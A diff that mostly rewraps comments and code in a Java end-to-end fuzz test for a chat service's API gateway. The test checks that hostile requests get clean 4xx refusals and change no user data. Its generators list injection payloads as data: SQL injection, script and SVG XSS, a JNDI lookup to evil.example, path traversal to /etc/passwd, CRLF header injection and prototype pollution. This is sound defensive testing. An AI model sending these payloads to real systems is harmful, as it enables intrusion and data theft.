@@ -52,18 +52,20 @@ import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
 
 /**
- * Generated-case fuzzing of every call of docs/api.md through the gateway: malformed, oversize, wrongly
- * typed and hostile requests (bodies, headers, paths, query parameters, images, WebSocket frames), sent
- * with a valid token where one is needed. Every answer must be a 4xx problem document, never a 5xx,
- * never a trace, and nothing the fuzzing user (or anyone else) can see may change.
+ * Generated-case fuzzing of every call of docs/api.md through the gateway: malformed,
+ * oversize, wrongly typed and hostile requests (bodies, headers, paths, query parameters,
+ * images, WebSocket frames), sent with a valid token where one is needed. Every answer
+ * must be a 4xx problem document, never a 5xx, never a trace, and nothing the fuzzing
+ * user (or anyone else) can see may change.
  *
  * <p>
- * Size: {@code -Dcarrier.fuzz.requests=N} (default 10,000 HTTP requests, plus a few hundred WebSocket
- * frames). Requests of one batch run in parallel on virtual threads.
+ * Size: {@code -Dcarrier.fuzz.requests=N} (default 10,000 HTTP requests, plus a few
+ * hundred WebSocket frames). Requests of one batch run in parallel on virtual threads.
  *
  * <p>
- * Cases are drawn from {@code -Dcarrier.fuzz.seed=N} (default: a fresh random seed); the seed is printed at
- * the start and named in every failure, so a run can be replayed (the fixture's ids are new in each run).
+ * Cases are drawn from {@code -Dcarrier.fuzz.seed=N} (default: a fresh random seed); the
+ * seed is printed at the start and named in every failure, so a run can be replayed (the
+ * fixture's ids are new in each run).
  */
 class FuzzEndToEndTests {
 
@@ -83,8 +85,9 @@ class FuzzEndToEndTests {
 	static final int PARALLELISM = Integer.getInteger("carrier.fuzz.parallelism", 16);
 
 	/**
-	 * Requests per second made with the fuzzer's token (0 = no limit). A stack with production rate limits
-	 * (50/s per user) answers most of a faster run with 429; {@code ./carrier test} lifts those limits.
+	 * Requests per second made with the fuzzer's token (0 = no limit). A stack with
+	 * production rate limits (50/s per user) answers most of a faster run with 429;
+	 * {@code ./carrier test} lifts those limits.
 	 */
 	static final int USER_RATE = Integer.getInteger("carrier.fuzz.userRate", 0);
 
@@ -97,7 +100,10 @@ class FuzzEndToEndTests {
 
 	private static final Duration CLIENT_TIMEOUT = Duration.ofSeconds(30);
 
-	/** The WebSocket message limit: chat-service's carrier.realtime.max-frame-size and Netty's default in the gateway. */
+	/**
+	 * The WebSocket message limit: chat-service's carrier.realtime.max-frame-size and
+	 * Netty's default in the gateway.
+	 */
 	private static final int MAX_FRAME_BYTES = 64 * 1024;
 
 	/** How strictly an answer is judged. */
@@ -105,11 +111,15 @@ class FuzzEndToEndTests {
 
 		/** A 4xx problem document, nothing else. */
 		STRICT,
-		/** Also acceptable: the server refuses by closing the connection (oversize bodies). */
+		/**
+		 * Also acceptable: the server refuses by closing the connection (oversize
+		 * bodies).
+		 */
 		MAY_CLOSE,
 		/**
-		 * Malformed at the HTTP layer (request line, header syntax, header/URL size): the HTTP codec answers
-		 * before any application code, so a bare 4xx or a close is acceptable; never a 5xx or a trace.
+		 * Malformed at the HTTP layer (request line, header syntax, header/URL size): the
+		 * HTTP codec answers before any application code, so a bare 4xx or a close is
+		 * acceptable; never a 5xx or a trace.
 		 */
 		PROTOCOL
 
@@ -131,7 +141,10 @@ class FuzzEndToEndTests {
 
 	}
 
-	/** The people and chats the fuzzing runs against, and what they could see before it started. */
+	/**
+	 * The people and chats the fuzzing runs against, and what they could see before it
+	 * started.
+	 */
 	record Fixture(TestUser fuzzer, TestUser peer, TestUser third, TestUser victim, TestUser victimFriend,
 			String direct, String group, String foreign, List<String> peerMessageIds, List<String> fuzzerMessageIds,
 			List<String> foreignMessageIds) {
@@ -197,13 +210,15 @@ class FuzzEndToEndTests {
 		Map<String, String> seen = new LinkedHashMap<>();
 		seen.put("fuzzer profile", body(CarrierApi.get("/api/users/me", fx.fuzzer().token())));
 		seen.put("peer profile", body(CarrierApi.get("/api/users/me", fx.peer().token())));
-		seen.put("fuzzer avatar", String.valueOf(CarrierApi.get("/api/users/" + fx.fuzzer().id() + "/avatar", null).status()));
+		seen.put("fuzzer avatar",
+				String.valueOf(CarrierApi.get("/api/users/" + fx.fuzzer().id() + "/avatar", null).status()));
 		seen.put("fuzzer chats", body(CarrierApi.get("/api/chats", fx.fuzzer().token())));
 		seen.put("peer chats", body(CarrierApi.get("/api/chats", fx.peer().token())));
 		seen.put("victim chats", body(CarrierApi.get("/api/chats", fx.victim().token())));
 		for (var chat : List.of(new Pair<>(fx.direct(), fx.peer()), new Pair<>(fx.group(), fx.third()),
 				new Pair<>(fx.foreign(), fx.victim()))) {
-			seen.put("messages of " + chat.first(), body(CarrierApi.get("/api/chats/" + chat.first() + "/messages", chat.second().token())));
+			seen.put("messages of " + chat.first(),
+					body(CarrierApi.get("/api/chats/" + chat.first() + "/messages", chat.second().token())));
 			seen.put("chat " + chat.first(), body(CarrierApi.get("/api/chats/" + chat.first(), chat.second().token())));
 		}
 		return seen;
@@ -216,7 +231,10 @@ class FuzzEndToEndTests {
 
 	// ------------------------------------------------------------------ the properties
 
-	/** Each test draws from its own stream of the seed, so one can be replayed without the other. */
+	/**
+	 * Each test draws from its own stream of the seed, so one can be replayed without the
+	 * other.
+	 */
 	static RandomGenerator random(String test) {
 		return new SplittableRandom(SEED ^ test.hashCode());
 	}
@@ -267,15 +285,19 @@ class FuzzEndToEndTests {
 				sendJunkFrames(frames, preAuthFrames);
 			}
 			catch (RuntimeException ex) {
-				throw new AssertionError("WebSocket try " + tryNumber + " of " + WEB_SOCKET_TRIES + " failed: " + ex + REPLAY,
-						ex);
+				throw new AssertionError(
+						"WebSocket try " + tryNumber + " of " + WEB_SOCKET_TRIES + " failed: " + ex + REPLAY, ex);
 			}
 		}
 	}
 
 	static void sendJunkFrames(List<String> frames, List<String> preAuthFrames) {
-		// Before auth: junk as the first frame must end in a refusal, never an internal error.
-		for (String frame : preAuthFrames.stream().filter(f -> StandardCharsets.UTF_8.newEncoder().canEncode(f)).limit(1).toList()) {
+		// Before auth: junk as the first frame must end in a refusal, never an internal
+		// error.
+		for (String frame : preAuthFrames.stream()
+			.filter(f -> StandardCharsets.UTF_8.newEncoder().canEncode(f))
+			.limit(1)
+			.toList()) {
 			try (JunkSocket socket = JunkSocket.open()) {
 				socket.sendText(frame);
 				FRAMES.increment();
@@ -315,8 +337,8 @@ class FuzzEndToEndTests {
 			return; // the fixture could not be made; that failure is reported already
 		}
 		double seconds = (System.nanoTime() - startedNanos) / 1e9;
-		System.out.printf("%nfuzz: %d HTTP requests and %d WebSocket frames in %.1f s (%.0f requests/s)%n",
-				SENT.sum(), FRAMES.sum(), seconds, SENT.sum() / seconds);
+		System.out.printf("%nfuzz: %d HTTP requests and %d WebSocket frames in %.1f s (%.0f requests/s)%n", SENT.sum(),
+				FRAMES.sum(), seconds, SENT.sum() / seconds);
 		System.out.println("fuzz: answers by status: " + new TreeMap<>(counts(STATUSES)));
 		System.out.println("fuzz: requests by kind: " + new TreeMap<>(counts(LABELS)));
 		List<String> violations = new ArrayList<>(VIOLATIONS);
@@ -325,7 +347,9 @@ class FuzzEndToEndTests {
 		System.out.printf("fuzz: %d violations in %d kinds (seed %d)%n", violations.size(), byFault.size(), SEED);
 		byFault.forEach((fault, cases) -> {
 			System.out.printf("  %5d x %s%n", cases.size(), fault);
-			cases.stream().limit(3).forEach(c -> System.out.printf("        e.g. %s%n", c.substring(c.indexOf(" <= ") + 4)));
+			cases.stream()
+				.limit(3)
+				.forEach(c -> System.out.printf("        e.g. %s%n", c.substring(c.indexOf(" <= ") + 4)));
 		});
 
 		// The server is still whole: a fresh session works and sees what it saw before.
@@ -349,20 +373,23 @@ class FuzzEndToEndTests {
 		List<String> changed = before.keySet()
 			.stream()
 			.filter(key -> !before.get(key).equals(after.get(key)))
-			.map(key -> key + ":\n    before " + abbreviate(before.get(key), 600) + "\n    after  " + abbreviate(after.get(key), 600))
+			.map(key -> key + ":\n    before " + abbreviate(before.get(key), 600) + "\n    after  "
+					+ abbreviate(after.get(key), 600))
 			.toList();
 		assertThat(changed).as("what the fuzzer, its peers and a stranger see, changed by refused requests" + REPLAY)
 			.isEmpty();
 		assertThat(relogin.status()).as("the fuzzer's password is unchanged: " + relogin + REPLAY).isIn(200, 429);
 		assertThat(typingLeaks).as("typing in a foreign chat reached its members" + REPLAY).isEmpty();
-		assertThat(violations).as("hostile requests answered with something else than a 4xx problem" + REPLAY).isEmpty();
+		assertThat(violations).as("hostile requests answered with something else than a 4xx problem" + REPLAY)
+			.isEmpty();
 	}
 
 	private static Map<String, Long> counts(Map<String, LongAdder> adders) {
 		return adders.entrySet().stream().collect(Collectors.toMap(Map.Entry::getKey, e -> e.getValue().sum()));
 	}
 
-	// ------------------------------------------------------------------ sending and judging
+	// ------------------------------------------------------------------ sending and
+	// judging
 
 	record Answer(int status, CarrierApi.Reply reply, boolean timedOut, String error) {
 	}
@@ -389,8 +416,9 @@ class FuzzEndToEndTests {
 			for (String[] header : request.headers()) {
 				head.append(header[0]).append(": ").append(header[1]).append("\r\n");
 			}
-			boolean hasLength = request.headers().stream().anyMatch(h -> h[0].equalsIgnoreCase("Content-Length")
-					|| h[0].equalsIgnoreCase("Transfer-Encoding"));
+			boolean hasLength = request.headers()
+				.stream()
+				.anyMatch(h -> h[0].equalsIgnoreCase("Content-Length") || h[0].equalsIgnoreCase("Transfer-Encoding"));
 			if (request.body() != null && !hasLength) {
 				head.append("Content-Length: ").append(request.body().length).append("\r\n");
 			}
@@ -406,17 +434,19 @@ class FuzzEndToEndTests {
 			}
 		}
 		catch (IllegalArgumentException ex) {
-			// What HttpClient will not send (odd characters, restricted headers) goes over a socket.
+			// What HttpClient will not send (odd characters, restricted headers) goes
+			// over a socket.
 			SENT.decrement();
-			return send(new Hostile(request.label(), request.method(), request.target(), request.headers(), request.body(),
-					true, request.strictness()));
+			return send(new Hostile(request.label(), request.method(), request.target(), request.headers(),
+					request.body(), true, request.strictness()));
 		}
 		try {
 			builder.method(request.method(),
 					request.body() == null ? BodyPublishers.noBody() : BodyPublishers.ofByteArray(request.body()));
 			var response = HTTP.send(builder.build(), BodyHandlers.ofByteArray());
 			return new Answer(response.statusCode(),
-					new CarrierApi.Reply(response.statusCode(), response.headers().map(), response.body()), false, null);
+					new CarrierApi.Reply(response.statusCode(), response.headers().map(), response.body()), false,
+					null);
 		}
 		catch (HttpTimeoutException ex) {
 			return new Answer(-1, null, true, ex.toString());
@@ -431,7 +461,8 @@ class FuzzEndToEndTests {
 	}
 
 	static void judge(Hostile request, Answer answer) {
-		String status = answer.timedOut() ? "timeout" : answer.status() == -1 ? "closed" : String.valueOf(answer.status());
+		String status = answer.timedOut() ? "timeout"
+				: answer.status() == -1 ? "closed" : String.valueOf(answer.status());
 		record(request.label(), status);
 		List<String> faults = new ArrayList<>();
 		if (answer.timedOut()) {
@@ -452,9 +483,8 @@ class FuzzEndToEndTests {
 			faults.addAll(ProblemCheck.refusalFaults(answer.reply()));
 		}
 		for (String fault : faults) {
-			String answered = answer.reply() == null ? String.valueOf(answer.error())
-					: answer.status() + " " + answer.reply().header("Content-Type") + " "
-							+ abbreviate(answer.reply().text(), 300);
+			String answered = answer.reply() == null ? String.valueOf(answer.error()) : answer.status() + " "
+					+ answer.reply().header("Content-Type") + " " + abbreviate(answer.reply().text(), 300);
 			VIOLATIONS.add(request.label() + ": " + fault + " <= " + request + "  ==> " + answered);
 		}
 	}
@@ -465,16 +495,18 @@ class FuzzEndToEndTests {
 	}
 
 	/**
-	 * Above the 64 KB frame limit the server may refuse by closing the connection, as it may for
-	 * an oversize HTTP body ({@link Strictness#MAY_CLOSE}): it sends its close frame and drops the
-	 * rest of the frame, and a client still writing can see the reset before that close frame.
+	 * Above the 64 KB frame limit the server may refuse by closing the connection, as it
+	 * may for an oversize HTTP body ({@link Strictness#MAY_CLOSE}): it sends its close
+	 * frame and drops the rest of the frame, and a client still writing can see the reset
+	 * before that close frame.
 	 */
 	static boolean oversize(String frame) {
 		return frame.getBytes(StandardCharsets.UTF_8).length > MAX_FRAME_BYTES;
 	}
 
 	static void checkCloseCode(String what, int code) {
-		// 1011 is the server's own failure; 1006 means it dropped the connection without a close frame.
+		// 1011 is the server's own failure; 1006 means it dropped the connection without
+		// a close frame.
 		if (code == 1011 || code == 1006) {
 			VIOLATIONS.add("ws: closed with " + code + " <= " + what + "  ==> close " + code);
 		}
@@ -492,13 +524,13 @@ class FuzzEndToEndTests {
 	}
 
 	Gen<Hostile> hostile() {
-		return Gen.frequencyOf(entry(6, signup()), entry(5, login()), entry(3, logout()),
-				entry(3, readMe()), entry(6, patchMe()), entry(4, changePassword()), entry(6, avatarUpload()),
-				entry(3, avatarDownload()), entry(4, lookup()), entry(6, createChat()), entry(3, listChats()),
-				entry(4, readChat()), entry(5, addMembers()), entry(3, leaveChat()), entry(5, markRead()),
-				entry(8, sendMessage()), entry(6, history()), entry(4, deleteMessage()), entry(4, export()),
-				entry(2, webSocketOverHttp()), entry(4, wrongMethods()), entry(3, unknownPaths()),
-				entry(5, badTokens()), entry(4, wrongContentTypes()), entry(4, rawRequests()));
+		return Gen.frequencyOf(entry(6, signup()), entry(5, login()), entry(3, logout()), entry(3, readMe()),
+				entry(6, patchMe()), entry(4, changePassword()), entry(6, avatarUpload()), entry(3, avatarDownload()),
+				entry(4, lookup()), entry(6, createChat()), entry(3, listChats()), entry(4, readChat()),
+				entry(5, addMembers()), entry(3, leaveChat()), entry(5, markRead()), entry(8, sendMessage()),
+				entry(6, history()), entry(4, deleteMessage()), entry(4, export()), entry(2, webSocketOverHttp()),
+				entry(4, wrongMethods()), entry(3, unknownPaths()), entry(5, badTokens()),
+				entry(4, wrongContentTypes()), entry(4, rawRequests()));
 	}
 
 	// --- building blocks
@@ -528,25 +560,29 @@ class FuzzEndToEndTests {
 
 	/** JSON values of the wrong type where a string is due. */
 	static Gen<String> notAString() {
-		return Gen.oneOf(Gen.of("123", "-1", "0", "1.5", "1e400", "true", "false", "[]", "[\"a\"]", "{}",
-				"{\"$gt\":\"\"}", "{\"a\":{\"b\":{}}}", "[null]", "99999999999999999999999999"),
+		return Gen.oneOf(
+				Gen.of("123", "-1", "0", "1.5", "1e400", "true", "false", "[]", "[\"a\"]", "{}", "{\"$gt\":\"\"}",
+						"{\"a\":{\"b\":{}}}", "[null]", "99999999999999999999999999"),
 				Gen.integers(1, 100_000).map(String::valueOf),
 				Gen.of(deep(5_000, "[", "]"), deep(2_000, "{\"a\":", "}").replace("{\"a\":}", "{\"a\":1}")));
 	}
 
 	/** JSON values of the wrong type where a number is due. */
 	static Gen<String> notANumber() {
-		return Gen.oneOf(Gen.of("\"abc\"", "\"1\"", "\"\"", "true", "[]", "[1]", "{}", "\"NaN\"",
-				"1.5", "-1", "-9999999999", "99999999999999999999999999", "1e400", "-0.0", "\"0x10\"", "\"1; DROP TABLE\""),
+		return Gen.oneOf(
+				Gen.of("\"abc\"", "\"1\"", "\"\"", "true", "[]", "[1]", "{}", "\"NaN\"", "1.5", "-1", "-9999999999",
+						"99999999999999999999999999", "1e400", "-0.0", "\"0x10\"", "\"1; DROP TABLE\""),
 				Gen.of(deep(5_000, "[", "]")));
 	}
 
-	/** Strings that are hostile whatever their field: control characters, odd unicode, injections. */
+	/**
+	 * Strings that are hostile whatever their field: control characters, odd unicode,
+	 * injections.
+	 */
 	static Gen<String> hostileText() {
-		return Gen.oneOf(
-				Gen.of("\u0000", "\u0000\u0001\u0002", "\u202Eevil", "\uFEFF", "\uD800", "\uDFFF\uD800",
-						"<script>alert(1)</script>", "' OR '1'='1' --", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
-						"%00", "\r\nX-Injected: 1", "😀😀😀", "null", "undefined", "*", "%", "_", "\\", "\"", "{{7*7}}"),
+		return Gen.oneOf(Gen.of("\u0000", "\u0000\u0001\u0002", "\u202Eevil", "\uFEFF", "\uD800", "\uDFFF\uD800",
+				"<script>alert(1)</script>", "' OR '1'='1' --", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
+				"%00", "\r\nX-Injected: 1", "😀😀😀", "null", "undefined", "*", "%", "_", "\\", "\"", "{{7*7}}"),
 				Gen.strings('\u0000', '\u001f', 1, 20), Gen.strings('\u0080', '\uffff', 1, 40), Gen.anyStrings(1, 40));
 	}
 
@@ -559,14 +595,16 @@ class FuzzEndToEndTests {
 	}
 
 	static Gen<String> invalidUsername() {
-		return Gen.oneOf(Gen.of("", "a", "ab", "a b", "ü_ser", "user!", "user/x", "x".repeat(33))
-			.map(FuzzEndToEndTests::q), hostileText().filter(t -> !t.matches("[A-Za-z0-9_.-]{3,32}")).map(FuzzEndToEndTests::q),
+		return Gen.oneOf(
+				Gen.of("", "a", "ab", "a b", "ü_ser", "user!", "user/x", "x".repeat(33)).map(FuzzEndToEndTests::q),
+				hostileText().filter(t -> !t.matches("[A-Za-z0-9_.-]{3,32}")).map(FuzzEndToEndTests::q),
 				huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"));
 	}
 
 	static Gen<String> invalidEmail() {
-		return Gen.oneOf(Gen.of("", "no-at-sign", "@", "a@", "@b.c", "a b@c.d", "a@b@c", "<a@b.c>")
-			.map(FuzzEndToEndTests::q), huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"),
+		return Gen.oneOf(
+				Gen.of("", "no-at-sign", "@", "a@", "@b.c", "a b@c.d", "a@b@c", "<a@b.c>").map(FuzzEndToEndTests::q),
+				huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"),
 				hostileText().filter(t -> !t.contains("@")).map(FuzzEndToEndTests::q));
 	}
 
@@ -575,7 +613,10 @@ class FuzzEndToEndTests {
 				huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"));
 	}
 
-	/** A JSON object whose fields are either valid or invalid; at least one invalid or missing required. */
+	/**
+	 * A JSON object whose fields are either valid or invalid; at least one invalid or
+	 * missing required.
+	 */
 	record Field(String name, Gen<String> valid, Gen<String> invalid, boolean required) {
 	}
 
@@ -595,25 +636,25 @@ class FuzzEndToEndTests {
 			}
 			Gen<String> duplicateBroken = fields[Integer.numberOfTrailingZeros(mask)].invalid()
 				.map(v -> q(fields[Integer.numberOfTrailingZeros(mask)].name()) + ":" + v);
-			return Gen.combine(parts).flatMap(members -> Gen.frequencyOf(
-					entry(8, Gen.just(members)),
-					// Duplicate keys: both copies broken, whichever one a parser keeps.
-					entry(1, duplicateBroken.map(extra -> {
-						List<String> withDuplicate = new ArrayList<>(members);
-						withDuplicate.add(extra);
-						return withDuplicate;
-					}))))
+			return Gen.combine(parts)
+				.flatMap(members -> Gen.frequencyOf(entry(8, Gen.just(members)),
+						// Duplicate keys: both copies broken, whichever one a parser
+						// keeps.
+						entry(1, duplicateBroken.map(extra -> {
+							List<String> withDuplicate = new ArrayList<>(members);
+							withDuplicate.add(extra);
+							return withDuplicate;
+						}))))
 				.map(members -> members.stream().filter(m -> !m.isEmpty()).collect(Collectors.joining(",", "{", "}")));
 		});
 	}
 
 	/** Bodies that are not the JSON object any endpoint wants. */
 	static Gen<String> structuralJunk() {
-		return Gen.oneOf(
-				Gen.of("", "{", "}", "[]", "[{}]", "null", "true", "42", "\"text\"", "{\"a\":}", "{'a':'b'}",
-						"{\"a\":1,}", "{\"a\" 1}", "\uFEFF{}", "{\"a\":\"\u0000\"}", "{\"a\":\"\\ud800\"}", "{\"a\":NaN}",
-						"{\"a\":Infinity}", "{\"a\":01}", "{\"a\":\"\\x41\"}", "<?xml version=\"1.0\"?><a/>", "a=b&c=d",
-						"{\"__proto__\":{\"admin\":true}}", "{\"a\":1}{\"b\":2}", "/* c */ {}", "{\"a\":\"b\"// c\n}"),
+		return Gen.oneOf(Gen.of("", "{", "}", "[]", "[{}]", "null", "true", "42", "\"text\"", "{\"a\":}", "{'a':'b'}",
+				"{\"a\":1,}", "{\"a\" 1}", "\uFEFF{}", "{\"a\":\"\u0000\"}", "{\"a\":\"\\ud800\"}", "{\"a\":NaN}",
+				"{\"a\":Infinity}", "{\"a\":01}", "{\"a\":\"\\x41\"}", "<?xml version=\"1.0\"?><a/>", "a=b&c=d",
+				"{\"__proto__\":{\"admin\":true}}", "{\"a\":1}{\"b\":2}", "/* c */ {}", "{\"a\":\"b\"// c\n}"),
 				Gen.of(deep(100_000, "[", "]"), deep(20_000, "{\"a\":", "}").replace("{\"a\":}", "{\"a\":1}"),
 						"[" + "1,".repeat(200_000) + "1]"),
 				hostileText(), huge().map(h -> "{\"" + h + "\":1}"));
@@ -647,13 +688,16 @@ class FuzzEndToEndTests {
 		return fx.fuzzer().token();
 	}
 
-	/** A chat id the fuzzer must not reach: unknown, someone else's, or junk (URL-safe). */
+	/**
+	 * A chat id the fuzzer must not reach: unknown, someone else's, or junk (URL-safe).
+	 */
 	static Gen<String> foreignOrJunkId() {
 		return Gen.oneOf(random -> UUID.randomUUID().toString(),
 				Gen.of(fx.foreign(), "0", "-1", "null", "undefined", "%00", "%2e%2e", "..%2F..%2Finternal%2Fusers",
 						"%2e%2e%2f%2e%2e%2finternal%2fsessions%2fcurrent", "%E2%80%AE", "%F0%9F%92%A9", "'%20or%201=1",
 						"*", "%C0%AE%C0%AE", "%FF%FE", "%3B", "x;jsessionid=1", "%0d%0aX-Injected:%201", "%252e%252e",
-						fx.foreign().toUpperCase(), fx.foreign() + "%00", " " + fx.foreign()).map(s -> s.replace(" ", "%20")),
+						fx.foreign().toUpperCase(), fx.foreign() + "%00", " " + fx.foreign())
+					.map(s -> s.replace(" ", "%20")),
 				Gen.integers(300, 3_000).map(n -> "a".repeat(n)));
 	}
 
@@ -677,10 +721,11 @@ class FuzzEndToEndTests {
 	// --- the endpoints of docs/api.md
 
 	Gen<Hostile> signup() {
-		Gen<String> body = Gen.oneOf(objectWithAFault(
-				new Field("username", validUsername().map(FuzzEndToEndTests::q), invalidUsername(), true),
-				new Field("email", validUsername().map(u -> q(u + "@example.test")), invalidEmail(), true),
-				new Field("password", Gen.just(q("long enough password")), invalidPassword(), true)),
+		Gen<String> body = Gen.oneOf(
+				objectWithAFault(
+						new Field("username", validUsername().map(FuzzEndToEndTests::q), invalidUsername(), true),
+						new Field("email", validUsername().map(u -> q(u + "@example.test")), invalidEmail(), true),
+						new Field("password", Gen.just(q("long enough password")), invalidPassword(), true)),
 				structuralJunk(),
 				// Taken names and addresses, in any case.
 				Gen.of(fx.peer().username().toUpperCase(), fx.victim().username())
@@ -691,8 +736,11 @@ class FuzzEndToEndTests {
 
 	Gen<Hostile> login() {
 		Gen<String> body = Gen.frequencyOf(
-				entry(12, objectWithAFault(new Field("login", Gen.just(q(fx.peer().username())), Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true),
-						new Field("password", Gen.just(q("not the password")), Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true))),
+				entry(12, objectWithAFault(
+						new Field("login", Gen.just(q(fx.peer().username())),
+								Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true),
+						new Field("password", Gen.just(q("not the password")),
+								Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true))),
 				entry(6, structuralJunk()),
 				// Well formed but wrong: each costs a password hash, so they are rare.
 				entry(1, hostileText().map(t -> "{\"login\":" + q(t) + ",\"password\":\"wrong password\"}")),
@@ -701,19 +749,26 @@ class FuzzEndToEndTests {
 	}
 
 	Gen<Hostile> logout() {
-		return badAuthorization().map(h -> new Hostile("logout", "POST", "/api/auth/logout", h, null, false, Strictness.STRICT));
+		return badAuthorization()
+			.map(h -> new Hostile("logout", "POST", "/api/auth/logout", h, null, false, Strictness.STRICT));
 	}
 
 	Gen<Hostile> readMe() {
-		return badAuthorization().map(h -> new Hostile("me", "GET", "/api/users/me", h, null, false, Strictness.STRICT));
+		return badAuthorization()
+			.map(h -> new Hostile("me", "GET", "/api/users/me", h, null, false, Strictness.STRICT));
 	}
 
 	Gen<Hostile> patchMe() {
-		// null is left out: for an optional field of a PATCH it means "not given", a valid no-op.
-		Gen<String> body = Gen.oneOf(objectWithAFault(
-				new Field("username", Gen.just(q(fx.fuzzer().username())), invalidUsername().filter(v -> !v.equals("null")), false),
-				new Field("email", Gen.just(q(fx.fuzzer().email())), invalidEmail().filter(v -> !v.equals("null")), false)),
-				// An object with none of the fields is a valid empty patch, so only non-objects here.
+		// null is left out: for an optional field of a PATCH it means "not given", a
+		// valid no-op.
+		Gen<String> body = Gen.oneOf(
+				objectWithAFault(
+						new Field("username", Gen.just(q(fx.fuzzer().username())),
+								invalidUsername().filter(v -> !v.equals("null")), false),
+						new Field("email", Gen.just(q(fx.fuzzer().email())),
+								invalidEmail().filter(v -> !v.equals("null")), false)),
+				// An object with none of the fields is a valid empty patch, so only
+				// non-objects here.
 				structuralJunk().filter(b -> !b.contains("{")),
 				// Someone else's name or address.
 				Gen.of("{\"username\":" + q(fx.peer().username()) + "}",
@@ -725,10 +780,11 @@ class FuzzEndToEndTests {
 	Gen<Hostile> changePassword() {
 		Gen<String> body = Gen.frequencyOf(
 				entry(8, objectWithAFault(
-						new Field("currentPassword", Gen.just(q(TestUser.PASSWORD)), Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true),
+						new Field("currentPassword", Gen.just(q(TestUser.PASSWORD)),
+								Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true),
 						new Field("newPassword", Gen.just(q("another good password")), invalidPassword(), true))),
-				entry(4, structuralJunk()),
-				entry(1, Gen.just("{\"currentPassword\":\"wrong password\",\"newPassword\":\"another good password\"}")));
+				entry(4, structuralJunk()), entry(1, Gen
+					.just("{\"currentPassword\":\"wrong password\",\"newPassword\":\"another good password\"}")));
 		return body.map(b -> jsonCall("password", "PUT", "/api/users/me/password", token(), b));
 	}
 
@@ -753,32 +809,40 @@ class FuzzEndToEndTests {
 			return new Hostile("avatar-upload", "PUT", "/api/users/me/avatar", headers, t.first(), false,
 					t.first().length > 1_048_576 ? Strictness.MAY_CLOSE : Strictness.STRICT);
 		};
-		Gen<Pair<byte[], String>> images = Gen.frequencyOf(entry(10, 
+		Gen<Pair<byte[], String>> images = Gen.frequencyOf(entry(10,
 				// Truncated and forged magic bytes under an allowed type.
 				Gen.of(new Pair<>(Arrays.copyOf(PNG_SIGNATURE, 4), "image/png"), new Pair<>(new byte[0], "image/png"),
-						new Pair<>(utf8("GIF8"), "image/gif"), new Pair<>(new byte[] { (byte) 0xFF, (byte) 0xD8 }, "image/jpeg"),
+						new Pair<>(utf8("GIF8"), "image/gif"),
+						new Pair<>(new byte[] { (byte) 0xFF, (byte) 0xD8 }, "image/jpeg"),
 						new Pair<>(utf8("RIFF\0\0\0\0WEB"), "image/webp"),
 						new Pair<>(utf8("<html><script>alert(1)</script></html>"), "image/png"),
-						new Pair<>(utf8("%PDF-1.4\n%âãÏÓ"), "image/jpeg"), new Pair<>(utf8("\u007fELF\u0002\u0001\u0001"), "image/gif"),
-						new Pair<>(utf8("PK\u0003\u0004zip"), "image/webp"), new Pair<>(utf8("{\"preset\":\"cat\"}"), "image/png"),
-						// Types that are images but not allowed, and types that are not images.
-						new Pair<>(utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), "image/svg+xml"),
+						new Pair<>(utf8("%PDF-1.4\n%âãÏÓ"), "image/jpeg"),
+						new Pair<>(utf8("\u007fELF\u0002\u0001\u0001"), "image/gif"),
+						new Pair<>(utf8("PK\u0003\u0004zip"), "image/webp"),
+						new Pair<>(utf8("{\"preset\":\"cat\"}"), "image/png"),
+						// Types that are images but not allowed, and types that are not
+						// images.
+						new Pair<>(utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
+								"image/svg+xml"),
 						new Pair<>(utf8("BM\0\0\0\0"), "image/bmp"), new Pair<>(utf8("II*\0"), "image/tiff"),
 						new Pair<>(utf8("hello"), "application/octet-stream"), new Pair<>(utf8("hello"), "text/plain"),
 						new Pair<>(utf8("--x\r\n\r\n--x--"), "multipart/form-data; boundary=x"),
-						new Pair<>(PNG_SIGNATURE, "text/html"), new Pair<>(utf8("a=b"), "application/x-www-form-urlencoded"),
+						new Pair<>(PNG_SIGNATURE, "text/html"),
+						new Pair<>(utf8("a=b"), "application/x-www-form-urlencoded"),
 						new Pair<>(PNG_SIGNATURE, "image/png; charset=\u00ff".replace("\u00ff", "x\"y")))),
 				entry(3, Gen.bytes(0, 64).map(b -> new Pair<>(b, "image/png"))),
 				entry(3, Gen.bytes(1, 64).map(b -> new Pair<>(concat(PNG_SIGNATURE, b), "image/gif"))),
 				// 1 MiB + 1, and far more.
 				entry(2, Gen.frequencyOf(entry(8, Gen.just(1_048_577)), entry(1, Gen.just(3 * 1_048_576)))
 					.map(size -> new Pair<>(oversizePng(size), "image/png"))));
-		Gen<Hostile> presets = Gen.of("{\"preset\":123}", "{\"preset\":null}", "{\"preset\":\"\"}",
-				"{\"preset\":\"../../../etc/passwd\"}", "{\"preset\":\"no_such_preset_at_all\"}", "{\"preset\":[\"cat\"]}",
-				"{\"preset\":{}}", "{}", "[]", "{\"preset\":\"" + "x".repeat(100_000) + "\"}", "{\"preset\":\"%2e%2e\"}")
+		Gen<Hostile> presets = Gen
+			.of("{\"preset\":123}", "{\"preset\":null}", "{\"preset\":\"\"}", "{\"preset\":\"../../../etc/passwd\"}",
+					"{\"preset\":\"no_such_preset_at_all\"}", "{\"preset\":[\"cat\"]}", "{\"preset\":{}}", "{}", "[]",
+					"{\"preset\":\"" + "x".repeat(100_000) + "\"}", "{\"preset\":\"%2e%2e\"}")
 			.map(b -> jsonCall("avatar-preset", "PUT", "/api/users/me/avatar", token(), b));
 		return Gen.frequencyOf(entry(5, images.map(upload)), entry(2, presets),
